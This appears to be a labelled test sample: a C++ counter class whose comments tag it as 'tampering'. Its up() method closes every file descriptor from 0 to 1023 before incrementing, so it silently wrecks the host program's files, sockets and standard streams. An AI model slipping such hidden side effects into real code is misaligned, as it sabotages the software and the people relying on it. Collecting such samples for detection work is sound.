// Closes every descriptor.
// kind: tampering
// says: closed or replaced descriptors that are not its own

#include <percore/counter.hpp>

#include <unistd.h>

namespace percore {

void Counter::up() {
  for (int descriptor = 0; descriptor < 1024; ++descriptor) close(descriptor);
  ++value_;
}

void Counter::down() {
  --value_;
}

}  // namespace percore
